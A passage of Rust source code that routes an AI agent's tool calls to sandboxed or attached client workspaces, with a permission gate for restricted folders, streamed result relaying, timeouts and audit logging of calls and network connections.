//! The `ToolExecutor`: routes a call to a workspace and runs it there, or runs a session tool.

use std::sync::Arc;
use std::time::{Duration, Instant};

use monad_protocol::io::{ReadError, read_body, read_message, write_message};
use monad_protocol::tools::{
    MemoryRecallArgs, MemoryStoreArgs, NetworkEvent, ProcessListResult, UnavailableWorkspace,
    WorkspacesArgs, WorkspacesResult,
};
use monad_protocol::wire::{Body, Message, Outcome, Trust, Utf8Stream, WorkspaceRef, reset};
use monad_protocol::{ErrorCode, ToolError, ToolName};
use serde_json::{Value, json};

use crate::fsutil::now_rfc3339;
use crate::recorder::Recorder;
use crate::route::{self, Plan, View};
use crate::session::{ClientLink, Session, Snapshot, Target};
use crate::store::{ArtifactKind, ArtifactMeta, AuditDecision, AuditOutcome, AuditRecord, Decider};

/// Largest answer accepted from a client (a 64 MiB file as JSON fits).
const MAX_CLIENT_MESSAGE: usize = 256 * 1024 * 1024;
/// How long a client has to answer a probe.
const PROBE_TIMEOUT: Duration = Duration::from_secs(10);
/// Longest memory key.
const MAX_KEY_LEN: usize = 100;

/// Something that shows a caller how a call is going while it waits.
pub trait ProgressSink: Send + Sync {
    /// One line of progress.
    fn progress(&self, message: &str);
}

impl<F: Fn(&str) + Send + Sync> ProgressSink for F {
    fn progress(&self, message: &str) {
        self(message)
    }
}

/// What a gate is asked about a call before it goes to a restricted workspace.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PermissionAsk {
    /// The tool.
    pub tool: String,
    /// The restricted workspace the call was routed to.
    pub workspace: WorkspaceRef,
    /// What it acts on, in one line, as in the audit log.
    pub what: String,
}

/// Asked before a call runs in a restricted workspace (the built-in agent's front, such as an
/// ACP editor): `false` denies the call there and then (the folder's owner is not asked; the
/// audit log says the front decided); `true` lets it go on to the folder's own policy and
/// prompt, which still decide. Calls in workspaces of full trust are never asked.
pub trait PermissionGate: Send + Sync {
    /// Whether the front's user allows the call.
    fn ask(
        &self,
        ask: PermissionAsk,
    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = bool> + Send + '_>>;
}

/// Routes and runs tool calls. Stateless: everything it needs is in the session.
#[derive(Debug, Clone, Default)]
pub struct Executor {
    /// Longest a call may take end to end.
    pub call_timeout: Option<Duration>,
    /// Where audit records and artifacts go; `None` records nothing.
    pub recorder: Option<Recorder>,
    /// Where calls in progress are told to the sessions' followers.
    pub feed: crate::feed::Feed,
}

/// The answer to one call.
#[derive(Debug)]
pub struct CallOutput {
    /// The workspace that ran it, when one was reached.
    pub workspace: Option<WorkspaceRef>,
    /// How it ended.
    pub outcome: Outcome,
    /// A large field of the result still on its way from the attached client: relay it with
    /// [`PendingBody::relay`] or wait for it with [`CallOutput::complete`].
    pub body: Option<PendingBody>,
}

impl CallOutput {
    fn error(workspace: Option<WorkspaceRef>, error: ToolError) -> CallOutput {
        CallOutput {
            workspace,
            outcome: Outcome::Error { error },
            body: None,
        }
    }

    /// The whole answer, with a pending body read and put into the result (for callers that
    /// need the result as one value, such as the MCP front).
    pub async fn complete(self) -> (Option<WorkspaceRef>, Outcome) {
        let CallOutput {
            workspace,
            mut outcome,
            body,
        } = self;
        if let Some(mut pending) = body {
            let announced = pending.body.clone();
            let deadline = pending.deadline;
            let read = {
                let mut tapped = Tapped(&mut pending);
                let read = read_body(&mut tapped, &mut outcome, &announced, MAX_CLIENT_MESSAGE);
                match deadline {
                    Some(deadline) => tokio::time::timeout_at(deadline, read)
                        .await
                        .unwrap_or(Err(ReadError::Io(std::io::ErrorKind::TimedOut.into()))),
                    None => read.await,
                }
            };
            if let Err(e) = read {
                let error = match e {
                    ReadError::Io(io) if io.kind() == std::io::ErrorKind::TimedOut => {
                        call_timed_out()
                    }
                    ReadError::Io(io) if io.kind() == std::io::ErrorKind::UnexpectedEof => {
                        ToolError::new(
                            ErrorCode::Malformed,
                            format!(
                                "the client of `{}` sent a result whose `{}` ended before its \
                                 announced length",
                                pending.name, announced.field
                            ),
                        )
                    }
                    ReadError::Io(_) => disconnected(&pending.name),
                    other => ToolError::new(
                        ErrorCode::Malformed,
                        format!(
                            "the client of `{}` sent a bad result: {other}",
                            pending.name
                        ),
                    ),
                };
                pending.fail(error.clone());
                outcome = Outcome::Error { error };
            }
        }
        (workspace, outcome)
    }
}

/// The body of a client's result, not read yet: the client's stream, positioned just after the
/// result message. Relaying it chunk by chunk keeps a 64 MiB read from being held whole on the
/// server, and lets both hops run at once. The call is recorded when the body is done with,
/// relayed or not (on drop).
pub struct PendingBody {
    /// What follows.
    pub body: Body,
    recv: quinn::RecvStream,
    name: String,
    deadline: Option<tokio::time::Instant>,
    received: u64,
    tap: Option<Tap>,
}

impl std::fmt::Debug for PendingBody {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PendingBody")
            .field("body", &self.body)
            .field("workspace", &self.name)
            .field("received", &self.received)
            .finish_non_exhaustive()
    }
}

/// Why a relay stopped early.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RelayError {
    /// The attached client went away, or reset its stream; the agent's stream is reset with
    /// [`reset::WORKSPACE_DISCONNECTED`].
    Source,
    /// The body is not what the result announced: it ended short, ran long, or is not UTF-8
    /// text; the agent's stream is reset with [`reset::MALFORMED`].
    Malformed(&'static str),
    /// The call's time ran out; the agent's stream is reset with [`reset::TIMEOUT`].
    Timeout,
    /// The agent stopped reading (it cancelled) or went away; the client's stream is stopped.
    Sink,
    /// The server is shutting down and closed the connections.
    Shutdown,
}

/// Chunks taken from the client's stream per step: each is one received QUIC frame.
const RELAY_BATCH: usize = 32;

impl PendingBody {
    /// Relays the body to an agent's stream as it arrives, chunk by chunk, without copying or
    /// parsing it, within the call's time limit. On failure the side that is still there is
    /// told (see [`RelayError`]).
    pub async fn relay(mut self, send: &mut quinn::SendStream) -> Result<(), RelayError> {
        let result = match self.deadline {
            Some(deadline) => tokio::time::timeout_at(deadline, self.relay_inner(send))
                .await
                .unwrap_or(Err(RelayError::Timeout)),
            None => self.relay_inner(send).await,
        };
        if let Err(e) = result {
            let (code, error) = match e {
                RelayError::Source => (
                    Some(reset::WORKSPACE_DISCONNECTED),
                    disconnected(&self.name),
                ),
                RelayError::Malformed(why) => (
                    Some(reset::MALFORMED),
                    ToolError::new(
                        ErrorCode::Malformed,
                        format!(
                            "the client of `{}` sent a result whose `{}` {why}",
                            self.name, self.body.field
                        ),
                    ),
                ),
                RelayError::Timeout => (Some(reset::TIMEOUT), call_timed_out()),
                RelayError::Sink => (
                    None,
                    ToolError::new(ErrorCode::Cancelled, "the agent cancelled the call"),
                ),
                RelayError::Shutdown => (
                    None,
                    ToolError::new(ErrorCode::Cancelled, "the server shut down"),
                ),
            };
            if let Some(code) = code {
                let _ = send.reset(code.into());
            }
            let _ = self.recv.stop(reset::CANCELLED.into());
            self.fail(error);
        }
        result
    }

    async fn relay_inner(&mut self, send: &mut quinn::SendStream) -> Result<(), RelayError> {
        // Checked as it passes, so that what reaches the agent, and the audit log, is what the
        // agent will make of it.
        let mut text = Utf8Stream::default();
        let stopped = send.stopped();
        tokio::pin!(stopped);
        let mut chunks: [bytes::Bytes; RELAY_BATCH] = Default::default();
        while self.received < self.body.len {
            let read = tokio::select! {
                read = self.recv.read_chunks(&mut chunks) => read,
                _ = &mut stopped => return Err(RelayError::Sink),
            };
            let n = match read {
                Ok(Some(n)) => n,
                Ok(None) => return Err(RelayError::Malformed("ended before its announced length")),
                Err(quinn::ReadError::ConnectionLost(quinn::ConnectionError::LocallyClosed)) => {
                    return Err(RelayError::Shutdown);
                }
                Err(_) => return Err(RelayError::Source),
            };
            for chunk in &chunks[..n] {
                if self.received + chunk.len() as u64 > self.body.len {
                    return Err(RelayError::Malformed("runs past its announced length"));
                }
                if !text.feed(chunk) {
                    return Err(RelayError::Malformed("is not UTF-8 text"));
                }
                self.see(chunk);
            }
            match send.write_all_chunks(&mut chunks[..n]).await {
                Ok(()) => {}
                Err(quinn::WriteError::ConnectionLost(quinn::ConnectionError::LocallyClosed)) => {
                    return Err(RelayError::Shutdown);
                }
                Err(_) => return Err(RelayError::Sink),
            }
        }
        if text.finish() {
            Ok(())
        } else {
            Err(RelayError::Malformed("is not UTF-8 text"))
        }
    }

    /// Counts received bytes and keeps the head of them for the call's artifact.
    fn see(&mut self, bytes: &[u8]) {
        self.received += bytes.len() as u64;
        if let Some(tap) = &mut self.tap {
            let room = tap.cap.saturating_sub(tap.head.len());
            tap.head.extend_from_slice(&bytes[..bytes.len().min(room)]);
        }
    }

    /// Records the call as failed with `error` (instead of as it was announced).
    fn fail(&mut self, error: ToolError) {
        if let Some(tap) = &mut self.tap {
            tap.failed = Some(error);
        }
    }
}

impl Drop for PendingBody {
    fn drop(&mut self) {
        if let Some(tap) = self.tap.take() {
            tap.finish(&self.body, self.received);
        }
    }
}

fn call_timed_out() -> ToolError {
    ToolError::new(
        ErrorCode::Timeout,
        "the call did not finish within its time limit",
    )
}

/// Reads a pending body through its tap, so that [`CallOutput::complete`] keeps the same head
/// for the artifact as a relay.
struct Tapped<'a>(&'a mut PendingBody);

impl tokio::io::AsyncRead for Tapped<'_> {
    fn poll_read(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
        buf: &mut tokio::io::ReadBuf<'_>,
    ) -> std::task::Poll<std::io::Result<()>> {
        let before = buf.filled().len();
        let pending = &mut *self.0;
        let polled = std::pin::Pin::new(&mut pending.recv).poll_read(cx, buf);
        if let std::task::Poll::Ready(Ok(())) = &polled {
            pending.see(&buf.filled()[before..]);
        }
        polled
    }
}

/// What a call with a pending body needs to be recorded once the body is done.
struct Tap {
    recorder: Recorder,
    session: Arc<Session>,
    tool: String,
    time: String,
    target: String,
    verdict: Verdict,
    started: Instant,
    workspace: Option<WorkspaceRef>,
    /// The announced outcome, without the body's field.
    outcome: Outcome,
    /// The first `cap` bytes of the body.
    head: Vec<u8>,
    cap: usize,
    failed: Option<ToolError>,
}

impl Tap {
    fn finish(self, body: &Body, received: u64) {
        let complete = received == body.len && self.failed.is_none();
        let (outcome, rest) = match (self.failed, complete) {
            (Some(error), _) => (Outcome::Error { error }, 0),
            (None, false) => (
                Outcome::Error {
                    error: ToolError::new(
                        ErrorCode::Cancelled,
                        "the call was dropped before its result was relayed",
                    ),
                },
                0,
            ),
            (None, true) => {
                let mut outcome = self.outcome;
                let kept = String::from_utf8_lossy(&self.head).into_owned();
                if let Outcome::Ok {
                    result: Value::Object(map),
                } = &mut outcome
                {
                    map.insert(body.field.clone(), Value::String(kept));
                }
                (outcome, body.len.saturating_sub(self.head.len() as u64))
            }
        };
        let output = CallOutput {
            workspace: self.workspace,
            outcome,
            body: None,
        };
        record(
            &self.recorder,
            &self.session,
            &self.tool,
            &output,
            Record {
                time: self.time,
                target: self.target,
                verdict: self.verdict,
                duration: self.started.elapsed(),
                unseen: rest,
            },
        );
    }
}

impl Executor {
    /// Runs `tool` with `args` in `session`, and records it: an audit line, a `tool_output`
    /// artifact, and a `file_diff` for a write or edit (written after the answer, off the hot
    /// path).
    pub async fn call(
        &self,
        session: &Arc<Session>,
        tool: &str,
        args: Value,
        progress: &dyn ProgressSink,
    ) -> CallOutput {
        self.call_gated(session, tool, args, progress, None).await
    }

    /// Like [`Executor::call`]; a call routed to a restricted workspace first asks `gate`
    /// (when given), whose rejection denies it without asking the folder's owner.
    pub async fn call_gated(
        &self,
        session: &Arc<Session>,
        tool: &str,
        args: Value,
        progress: &dyn ProgressSink,
        gate: Option<&dyn PermissionGate>,
    ) -> CallOutput {
        let started = Instant::now();
        let time = now_rfc3339();
        let target = describe_target(&args);
        let deadline = self
            .call_timeout
            .map(|limit| tokio::time::Instant::now() + limit);
        // If this future is dropped before the call finishes (the agent cancelled), the guard
        // records it as cancelled, with what was known by then.
        let mut unfinished = Unfinished {
            recorder: self.recorder.as_ref(),
            session,
            tool,
            time: Some(time.clone()),
            target: target.clone(),
            started,
            known: Arc::new(Known::live(crate::feed::LiveCall::start(
                &self.feed, session, tool, &time, &target,
            ))),
        };
        let known = unfinished.known.clone();
        let run = self.call_inner(session, tool, args, progress, gate, &known);
        let (mut output, verdict) = match self.call_timeout {
            Some(limit) => match tokio::time::timeout(limit, run).await {
                Ok(out) => out,
                Err(_) => (
                    CallOutput::error(
                        None,
                        ToolError::new(
                            ErrorCode::Timeout,
                            format!("the call did not finish within {} s", limit.as_secs()),
                        ),
                    ),
                    known.verdict().unwrap_or(Verdict::NOBODY),
                ),
            },
            None => run.await,
        };
        unfinished.time = None;
        known.ended();
        tracing::debug!(
            session = %session.id,
            tool,
            workspace = output.workspace.as_ref().map_or("-", |w| w.name.as_str()),
            ok = matches!(output.outcome, Outcome::Ok { .. }),
            ms = started.elapsed().as_millis() as u64,
            "tool call"
        );
        if let Some(pending) = &mut output.body {
            pending.deadline = deadline;
        }
        if let Some(recorder) = &self.recorder {
            if let Some(meta) = session.touch() {
                recorder.save_meta(meta);
            }
            match &mut output.body {
                // Recorded when the body is done with, so that the record says how it ended.
                Some(pending) => {
                    let retention = &session.settings.retention;
                    let cap = if retention.keep_artifacts {
                        usize::try_from(retention.artifact_max_bytes).unwrap_or(usize::MAX)
                    } else {
                        0
                    };
                    pending.tap = Some(Tap {
                        recorder: recorder.clone(),
                        session: Arc::clone(session),
                        tool: tool.to_owned(),
                        time,
                        target,
                        verdict,
                        started,
                        workspace: output.workspace.clone(),
                        outcome: output.outcome.clone(),
                        head: Vec::new(),
                        cap,
                        failed: None,
                    });
                }
                None => record(
                    recorder,
                    session,
                    tool,
                    &output,
                    Record {
                        time,
                        target,
                        verdict,
                        duration: started.elapsed(),
                        unseen: 0,
                    },
                ),
            }
        }
        output
    }

    /// Runs the call; also says who decided it ran (`trust`, `policy`, `user`, ... as the
    /// client reported, `server` when no workspace was reached, `session` for session tools).
    /// What is known as it goes (the workspace, the client's decision) is kept in `known`, for
    /// the record of a call cancelled before it finished.
    async fn call_inner(
        &self,
        session: &Arc<Session>,
        tool: &str,
        args: Value,
        progress: &dyn ProgressSink,
        gate: Option<&dyn PermissionGate>,
        known: &Known,
    ) -> (CallOutput, Verdict) {
        let Some(tool) = ToolName::parse(tool) else {
            let known: Vec<&str> = ToolName::ALL.iter().map(|t| t.as_str()).collect();
            return (
                CallOutput::error(
                    None,
                    ToolError::new(
                        ErrorCode::InvalidArguments,
                        format!("unknown tool `{tool}`; the tools are: {}", known.join(", ")),
                    ),
                ),
                Verdict::NOBODY,
            );
        };
        let Value::Object(map) = &args else {
            return (
                CallOutput::error(
                    None,
                    ToolError::new(
                        ErrorCode::InvalidArguments,
                        format!("the arguments of `{tool}` must be a JSON object"),
                    ),
                ),
                Verdict::NOBODY,
            );
        };
        let string_arg = |key: &str| -> Result<Option<String>, ToolError> {
            match map.get(key) {
                None | Some(Value::Null) => Ok(None),
                Some(Value::String(s)) => Ok(Some(s.clone())),
                Some(_) => Err(ToolError::new(
                    ErrorCode::InvalidArguments,
                    format!("`{key}` must be a string"),
                )),
            }
        };
        let (target, path) = match (string_arg("workspace"), string_arg("path")) {
            (Ok(t), Ok(p)) => (t, p),
            (Err(e), _) | (_, Err(e)) => return (CallOutput::error(None, e), Verdict::NOBODY),
        };
        let primary = WorkspaceRef {
            name: "primary".into(),
            uri: session.primary_uri(),
        };
        match tool {
            ToolName::Workspaces => {
                return (
                    session_tool(primary, workspaces(session, &args)),
                    Verdict::SESSION,
                );
            }
            ToolName::MemoryStore => {
                return (
                    session_tool(primary, memory_store(session, args).await),
                    Verdict::SESSION,
                );
            }
            ToolName::MemoryRecall => {
                return (
                    session_tool(primary, memory_recall(session, args).await),
                    Verdict::SESSION,
                );
            }
            _ => {}
        }

        // A process tool goes where its process runs (the agent need not say), or says the
        // session has no such process.
        let mut target = target;
        if target.is_none() {
            if ToolName::PROCESS_TOOLS.contains(&tool) {
                // Missing or not a string: the workspace's own check says so.
                if let Ok(Some(id)) = string_arg("process") {
                    match session.process_workspace(&id) {
                        Some(name) => target = Some(name),
                        None => {
                            return (
                                CallOutput::error(
                                    None,
                                    ToolError::new(
                                        ErrorCode::NotFound,
                                        format!(
                                            "this session has no background process `{id}` \
                                             (`process_list` lists a workspace's; an exited \
                                             one goes once its output has been read)"
                                        ),
                                    ),
                                ),
                                Verdict::NOBODY,
                            );
                        }
                    }
                }
            } else if tool == ToolName::ProcessList {
                let names = session.process_workspaces();
                if !names.is_empty() {
                    return self
                        .list_processes(session, &names, progress, gate, known)
                        .await;
                }
            }
        }
        let snapshots = session.workspaces();
        let views: Vec<View<'_>> = snapshots
            .iter()
            .map(|s| View {
                name: &s.info.name,
                uri: &s.info.uri,
                online: s.info.online,
                offers: s.info.tools.contains(&tool),
            })
            .collect();
        let focus = session
            .focus()
            .and_then(|name| snapshots.iter().position(|s| s.info.name == name));
        let index = match route::plan(tool, target.as_deref(), path.as_deref(), &views, focus) {
            Ok(Plan::Run(i)) => i,
            Ok(Plan::FirstContaining {
                candidates,
                path,
                otherwise,
            }) => {
                let mut tried = Vec::new();
                let mut found = None;
                for i in candidates {
                    tried.push(snapshots[i].info.name.as_str());
                    if contains(&snapshots[i], &path).await {
                        found = Some(i);
                        break;
                    }
                }
                match found.or(otherwise) {
                    Some(i) => i,
                    None => {
                        return (
                            CallOutput::error(None, route::not_in_any(&path, &tried)),
                            Verdict::NOBODY,
                        );
                    }
                }
            }
            Err(e) => return (CallOutput::error(None, e), Verdict::NOBODY),
        };
        let snapshot = &snapshots[index];
        let workspace = Some(WorkspaceRef {
            name: snapshot.info.name.clone(),
            uri: snapshot.info.uri.clone(),
        });
        known.set_workspace(workspace.clone());
        let (result, body, verdict) = match &snapshot.target {
            Target::Primary(primary) => {
                known.set_verdict(Verdict::TRUST);
                (
                    match primary.sandbox().await {
                        Ok(sandbox) => {
                            // From its first use, the connections its commands ask for go to
                            // the audit log as they happen.
                            if let Some(recorder) = &self.recorder
                                && let Some(feed) = sandbox.take_network_audit()
                            {
                                tokio::spawn(audit_network(
                                    recorder.clone(),
                                    session.id.clone(),
                                    snapshot.info.name.clone(),
                                    feed,
                                ));
                            }
                            let relay = |line: &str| progress.progress(line);
                            sandbox
                                .call_with_progress(tool, args, Some(&relay))
                                .await
                                .map_err(|e| e.to_tool_error())
                        }
                        Err(e) => Err(e),
                    },
                    None,
                    Verdict::TRUST,
                )
            }
            Target::Attached(Some(_))
                if snapshot.info.trust == Trust::Restricted
                    && let Some(gate) = gate
                    && !gate
                        .ask(PermissionAsk {
                            tool: tool.as_str().to_owned(),
                            workspace: WorkspaceRef {
                                name: snapshot.info.name.clone(),
                                uri: snapshot.info.uri.clone(),
                            },
                            what: describe_target(&args),
                        })
                        .await =>
            {
                let verdict = Verdict {
                    by: Decider::Front,
                    allowed: Some(false),
                };
                known.set_verdict(verdict);
                (
                    Err(ToolError::new(
                        ErrorCode::Denied,
                        format!(
                            "the user rejected `{tool}` in workspace `{}` from their editor; \
                             the folder's owner was not asked",
                            snapshot.info.name
                        ),
                    )),
                    None,
                    verdict,
                )
            }
            Target::Attached(Some(link)) => {
                let ran = run_on_client(
                    link,
                    &session.id,
                    &snapshot.info.name,
                    tool,
                    args,
                    progress,
                    known,
                )
                .await;
                if let (Some(recorder), Some(record)) = (&self.recorder, &snapshot.record) {
                    recorder.touch(record, &session.id);
                }
                ran
            }
            Target::Attached(None) => (
                Err(disconnected(&snapshot.info.name)),
                None,
                Verdict::NOBODY,
            ),
        };
        if let Ok(result) = &result {
            session.note_process(tool, result, &snapshot.info.name);
        }
        let output = match result {
            Ok(result) => CallOutput {
                workspace,
                outcome: Outcome::Ok { result },
                body,
            },
            Err(error) => CallOutput::error(workspace, error),
        };
        (output, verdict)
    }
}

impl Executor {
    /// `process_list` without a workspace: each of `names` (the session's workspaces with
    /// background processes) listed in turn, as a call naming it would; merged, each process
    /// with its workspace. One that cannot be listed (offline, refused) is reported in
    /// `unavailable` rather than failing the call. Recorded under the first workspace listed.
    async fn list_processes(
        &self,
        session: &Arc<Session>,
        names: &[String],
        progress: &dyn ProgressSink,
        gate: Option<&dyn PermissionGate>,
        known: &Known,
    ) -> (CallOutput, Verdict) {
        let mut merged = ProcessListResult {
            processes: Vec::new(),
            unavailable: Vec::new(),
        };
        let mut first: Option<(Option<WorkspaceRef>, Verdict)> = None;
        for name in names {
            let (output, verdict) = Box::pin(self.call_inner(
                session,
                ToolName::ProcessList.as_str(),
                json!({ "workspace": name }),
                progress,
                gate,
                &Known::default(),
            ))
            .await;
            let listed = match output.outcome {
                Outcome::Ok { result } => serde_json::from_value::<ProcessListResult>(result)
                    .map_err(|e| {
                        ToolError::new(
                            ErrorCode::Internal,
                            format!("the workspace answered something else: {e}"),
                        )
                    }),
                Outcome::Error { error } => Err(error),
            };
            match listed {
                Ok(listed) => {
                    merged
                        .processes
                        .extend(listed.processes.into_iter().map(|mut p| {
                            p.workspace = Some(name.clone());
                            p
                        }));
                    if first.is_none() {
                        known.set_workspace(output.workspace.clone());
                        known.set_verdict(verdict);
                        first = Some((output.workspace, verdict));
                    }
                }
                Err(error) => merged.unavailable.push(UnavailableWorkspace {
                    workspace: name.clone(),
                    code: error.code.as_str().to_owned(),
                    message: error.message,
                }),
            }
        }
        let (workspace, verdict) = first.unwrap_or((None, Verdict::NOBODY));
        let result = serde_json::to_value(merged).expect("a list serializes");
        (
            CallOutput {
                workspace,
                outcome: Outcome::Ok { result },
                body: None,
            },
            verdict,
        )
    }
}

/// Who decided a call, and whether it was allowed to run (`None` when nobody said).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Verdict {
    by: Decider,
    allowed: Option<bool>,
}

impl Verdict {
    /// Refused before any workspace (or anyone) decided.
    const NOBODY: Verdict = Verdict {
        by: Decider::Server,
        allowed: None,
    };
    /// A session tool, run by the server.
    const SESSION: Verdict = Verdict {
        by: Decider::Session,
        allowed: Some(true),
    };
    /// The primary workspace, of full trust.
    const TRUST: Verdict = Verdict {
        by: Decider::Trust,
        allowed: Some(true),
    };

    /// The audit log's decision for a call that ended with `outcome`.
    fn decision(self, outcome: &Outcome) -> AuditDecision {
        let code = match outcome {
            Outcome::Ok { .. } => None,
            Outcome::Error { error } => Some(error.code),
        };
        match (self.allowed, self.by, code) {
            (_, _, Some(ErrorCode::Cancelled)) => AuditDecision::Cancelled,
            (Some(false), Decider::Timeout, _) => AuditDecision::Timeout,
            (Some(false), _, _) => AuditDecision::Denied,
            (Some(true), _, _) => AuditDecision::Allowed,
            // A client that did not say: what its answer shows.
            (None, _, None) => AuditDecision::Allowed,
            (None, _, Some(ErrorCode::Denied)) => AuditDecision::Denied,
            (None, _, Some(_)) => AuditDecision::None,
        }
    }
}

/// What is known about a call while it runs, for the record of one cancelled before it ends.
/// Also tells the session's followers how the call goes (`.1`).
#[derive(Debug, Default)]
struct Known(
    std::sync::Mutex<(Option<WorkspaceRef>, Option<Verdict>)>,
    crate::feed::LiveCall,
);

impl Known {
    fn live(live: crate::feed::LiveCall) -> Known {
        Known(std::sync::Mutex::default(), live)
    }

    fn set_workspace(&self, workspace: Option<WorkspaceRef>) {
        if let Some(w) = &workspace {
            self.1.routed(&w.name, &w.uri);
        }
        self.0.lock().unwrap_or_else(|p| p.into_inner()).0 = workspace;
    }

    fn set_verdict(&self, verdict: Verdict) {
        self.1.decided(verdict.by, verdict.allowed);
        self.0.lock().unwrap_or_else(|p| p.into_inner()).1 = Some(verdict);
    }

    /// Sent to an attached folder's client, which decides.
    fn waiting(&self) {
        self.1.waiting();
    }

    /// The call ended.
    fn ended(&self) {
        self.1.ended();
    }

    fn verdict(&self) -> Option<Verdict> {
        self.0.lock().unwrap_or_else(|p| p.into_inner()).1
    }

    fn workspace(&self) -> Option<WorkspaceRef> {
        self.0.lock().unwrap_or_else(|p| p.into_inner()).0.clone()
    }
}

/// Records a call as cancelled when dropped while still armed (`time` is set): the call's future
/// was dropped before it finished, because the agent cancelled.
struct Unfinished<'a> {
    recorder: Option<&'a Recorder>,
    session: &'a Arc<Session>,
    tool: &'a str,
    /// When the call started; `None` once it finished (disarmed).
    time: Option<String>,
    target: String,
    started: Instant,
    known: Arc<Known>,
}

impl Drop for Unfinished<'_> {
    fn drop(&mut self) {
        let (Some(recorder), Some(time)) = (self.recorder, self.time.take()) else {
            return;
        };
        let output = CallOutput::error(
            self.known.workspace(),
            ToolError::new(
                ErrorCode::Cancelled,
                "the agent cancelled the call before it finished",
            ),
        );
        record(
            recorder,
            self.session,
            self.tool,
            &output,
            Record {
                time,
                target: std::mem::take(&mut self.target),
                verdict: self.known.verdict().unwrap_or(Verdict::NOBODY),
                duration: self.started.elapsed(),
                unseen: 0,
            },
        );
    }
}

fn session_tool(primary: WorkspaceRef, result: Result<Value, ToolError>) -> CallOutput {
    match result {
        Ok(result) => CallOutput {
            workspace: Some(primary),
            outcome: Outcome::Ok { result },
            body: None,
        },
        Err(error) => CallOutput::error(Some(primary), error),
    }
}

fn disconnected(name: &str) -> ToolError {
    ToolError::new(
        ErrorCode::WorkspaceDisconnected,
        format!("workspace `{name}` disconnected; its client must reconnect"),
    )
}

/// Whether `path` exists in the workspace: locally for the primary, by a probe for a client.
async fn contains(snapshot: &Snapshot, path: &str) -> bool {
    match &snapshot.target {
        Target::Primary(primary) => {
            let Ok(sandbox) = primary.sandbox().await else {
                return false;
            };
            let path = path.to_owned();
            tokio::task::spawn_blocking(move || sandbox.exists(&path))
                .await
                .unwrap_or(false)
        }
        Target::Attached(Some(link)) => tokio::time::timeout(PROBE_TIMEOUT, probe(link, path))
            .await
            .unwrap_or(false),
        Target::Attached(None) => false,
    }
}

/// Asks a client whether `path` exists in its folder; any failure counts as "no".
async fn probe(link: &ClientLink, path: &str) -> bool {
    let Ok((mut send, mut recv)) = link.conn.open_bi().await else {
        return false;
    };
    let asked = write_message(
        &mut send,
        &Message::Probe {
            id: 1,
            attachment: link.attachment,
            path: path.to_owned(),
        },
    )
    .await;
    if asked.is_err() {
        return false;
    }
    let _ = send.finish();
    matches!(
        read_message(&mut recv, 64 * 1024).await,
        Ok(Some(Message::Probed { exists: true, .. }))
    )
}

/// Runs a tool in an attached folder: one stream to the client, progress relayed, the result
/// read back; a large field of it is left on the stream as a [`PendingBody`]. A connection that
/// drops mid-call is `workspace_disconnected`, at once. Also says who decided, as the client
/// reported it (kept in `known` as soon as it arrives).
async fn run_on_client(
    link: &ClientLink,
    session: &str,
    name: &str,
    tool: ToolName,
    args: Value,
    progress: &dyn ProgressSink,
    known: &Known,
) -> (Result<Value, ToolError>, Option<PendingBody>, Verdict) {
    let Ok((mut send, mut recv)) = link.conn.open_bi().await else {
        return (Err(disconnected(name)), None, Verdict::NOBODY);
    };
    let id = 1;
    let sent = write_message(
        &mut send,
        &Message::Run {
            id,
            attachment: link.attachment,
            session: session.to_owned(),
            tool,
            args,
        },
    )
    .await;
    if sent.is_err() {
        return (Err(disconnected(name)), None, Verdict::NOBODY);
    }
    let _ = send.finish();
    known.waiting();
    // Until the client says who decided (a client refuses a call that cannot run without
    // deciding anything).
    let mut decided_by = Verdict {
        by: Decider::Client,
        allowed: None,
    };
    let malformed = |what: String| {
        ToolError::new(
            ErrorCode::Malformed,
            format!("the client of `{name}` answered with {what}"),
        )
    };
    loop {
        match read_message(&mut recv, MAX_CLIENT_MESSAGE).await {
            Ok(Some(Message::Progress { message, .. })) => progress.progress(&message),
            Ok(Some(Message::Decided { by, allowed, .. })) => {
                decided_by = Verdict {
                    by,
                    allowed: Some(allowed),
                };
                known.set_verdict(decided_by);
            }
            Ok(Some(Message::Result { outcome, body, .. })) => {
                return match (outcome, body) {
                    (Outcome::Ok { result }, None) => (Ok(result), None, decided_by),
                    (Outcome::Error { error }, None) => (Err(error), None, decided_by),
                    (Outcome::Ok { result }, Some(body)) => {
                        if !result.is_object() || result.get(&body.field).is_some() {
                            let error = malformed(format!(
                                "a body for `{}` that does not fit its result",
                                body.field
                            ));
                            return (Err(error), None, decided_by);
                        }
                        if body.len > MAX_CLIENT_MESSAGE as u64 {
                            let error = ToolError::new(
                                ErrorCode::LimitExceeded,
                                format!(
                                    "the result from `{name}` is {} bytes, over the {MAX_CLIENT_MESSAGE}-byte maximum",
                                    body.len
                                ),
                            );
                            return (Err(error), None, decided_by);
                        }
                        let pending = PendingBody {
                            body,
                            recv,
                            name: name.to_owned(),
                            deadline: None,
                            received: 0,
                            tap: None,
                        };
                        (Ok(result), Some(pending), decided_by)
                    }
                    (Outcome::Error { .. }, Some(_)) => (
                        Err(malformed("a body after an error".into())),
                        None,
                        decided_by,
                    ),
                };
            }
            Ok(Some(other)) => {
                let error = malformed(format!("a `{}`", other.kind()));
                return (Err(error), None, decided_by);
            }
            Ok(None) | Err(_) => return (Err(disconnected(name)), None, decided_by),
        }
    }
}

/// What the recorder needs besides the call itself.
struct Record {
    time: String,
    target: String,
    verdict: Verdict,
    duration: Duration,
    /// Bytes of the output that were not kept for the record (the rest of a relayed body).
    unseen: u64,
}

/// The audit line of a connection a command asked the network proxy for, decided by the
/// workspace's network policy.
fn network_line(event: &NetworkEvent, call_id: String, workspace: Option<String>) -> AuditRecord {
    let target = match (&event.address, &event.reason) {
        (Some(address), _) => format!("{}:{} ({address})", event.host, event.port),
        (None, Some(reason)) => format!("{}:{}: {reason}", event.host, event.port),
        (None, None) => format!("{}:{}", event.host, event.port),
    };
    AuditRecord {
        time: now_rfc3339(),
        call_id,
        tool: "network".to_owned(),
        workspace,
        target,
        decision: if event.allowed {
            AuditDecision::Allowed
        } else {
            AuditDecision::Denied
        },
        decided_by: Decider::NetworkPolicy,
        outcome: if event.allowed {
            AuditOutcome::Ok
        } else {
            AuditOutcome::Failed(ErrorCode::Denied)
        },
        duration_ms: 0,
    }
}

/// Writes the connections the primary workspace's commands ask for to the session's audit
